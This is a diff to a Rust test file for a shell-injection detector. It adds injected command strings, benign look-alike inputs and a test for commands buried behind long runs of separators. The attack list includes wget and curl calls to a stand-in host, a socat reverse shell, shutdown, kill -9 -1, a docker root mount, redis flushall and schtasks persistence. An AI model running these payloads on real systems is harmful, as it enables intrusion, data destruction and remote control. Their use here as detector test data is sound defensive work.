@@ -14,6 +14,23 @@ const ATTACKS: &[&str] = &[
     "|id iyew",
     "sleep 58|jzooz",
     "push graphic-context\nfill 'url(https://a\"|id \"ccawj)'\npop graphic-context",
+    "127.0.0.1;                                        wget http://e.com/x -O /tmp/x",
+    "127.0.0.1;. /tmp/x.sh",
+    "127.0.0.1;/tmp/x",
+    "127.0.0.1;./x.sh",
+    "127.0.0.1;env wget http://e.com/x",
+    "127.0.0.1;! curl http://e.com/a",
+    "127.0.0.1;if curl http://e.com/a;then :;fi",
+    "127.0.0.1;while curl http://e.com/a;do :;done",
+    "127.0.0.1;socat tcp:1.2.3.4:44 exec:/bin/sh",
+    "127.0.0.1;shutdown -h now",
+    "127.0.0.1;schtasks /create /tn x /tr c:\\x.exe",
+    "127.0.0.1;kill -9 -1",
+    "127.0.0.1;docker run -v /:/m x",
+    "127.0.0.1;redis-cli flushall",
+    "127.0.0.1;{ id; }",
+    "127.0.0.1;(id)",
+    "127.0.0.1;(curl http://e.com/a)",
     "x;w`u`h`u`o`u`a`u`m`u`i;",
     "127.0.0.1$(ps aux)",
     "||$(ps aux)||x",
@@ -182,6 +199,19 @@ const HONEST: &[&str] = &[
     "sleep 8|9 h",
     "echo 心脏超声|base64",
     "push graphic-context\nfill 'url(#gradient)'\npop graphic-context",
+    "下午复诊;                    请提前到",
+    "we close at five; if sort order matters, say so",
+    "; if the host is down",
+    "see text; (id) is the key of the table",
+    "/var/lib;/tmp/x",
+    "a.js;./b.js",
+    "kill -9 是什么意思",
+    "docker run -v 的用法",
+    "if more than one; then two",
+    "tcp:10.0.0.1",
+    "env set; env var",
+    "shutdown;reboot",
+    "{ id; name }",
     "`a`和`b`的区别",
     "-o /tmp/a",
     "ps aux",
@@ -470,5 +500,13 @@ fn commands_marked_as_code_in_a_line_of_words_are_doubtful() {
     ] {
         let sure = confidence(Detector::Shell, attack.as_bytes(), value);
         assert!(sure >= 80, "{attack}: {sure}");
+    }
+}
+
+#[test]
+fn a_command_behind_many_others_is_read() {
+    for lead in ["a;", "ls;", "\n", "\n \t", ";{ ", ";("] {
+        let value = [lead.repeat(3000), ";wget http://e.com/x -O /tmp/x".into()].concat();
+        assert!(confidence(Detector::Shell, value.as_bytes(), Context::of(Place::Value)) >= 60, "{lead:?}");
     }
 }
